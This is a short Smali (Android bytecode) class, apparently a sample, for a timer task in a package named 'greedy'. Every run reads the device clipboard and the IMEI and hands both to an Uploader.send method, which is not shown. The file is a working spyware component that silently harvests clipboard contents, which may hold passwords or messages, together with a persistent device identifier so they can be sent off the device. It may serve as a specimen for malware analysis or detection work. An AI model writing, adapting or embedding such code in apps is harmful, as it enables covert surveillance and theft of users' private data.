# Reads the clipboard and the IMEI every five seconds.
.class public Lcom/example/greedy/ClipTask;
.super Ljava/util/TimerTask;

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .locals 0
    invoke-direct {p0}, Ljava/util/TimerTask;-><init>()V
    iput-object p1, p0, Lcom/example/greedy/ClipTask;->context:Landroid/content/Context;
    return-void
.end method

.method public run()V
    .locals 4
    iget-object v0, p0, Lcom/example/greedy/ClipTask;->context:Landroid/content/Context;
    const-string v1, "clipboard"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/content/ClipboardManager;
    invoke-virtual {v1}, Landroid/content/ClipboardManager;->getPrimaryClip()Landroid/content/ClipData;
    move-result-object v1
    invoke-static {v1}, Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v1
    const-string v2, "phone"
    invoke-virtual {v0, v2}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v2
    check-cast v2, Landroid/telephony/TelephonyManager;
    invoke-virtual {v2}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v2
    const-string v3, "clip"
    invoke-static {v3, v1, v2}, Lcom/example/greedy/Uploader;->send(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
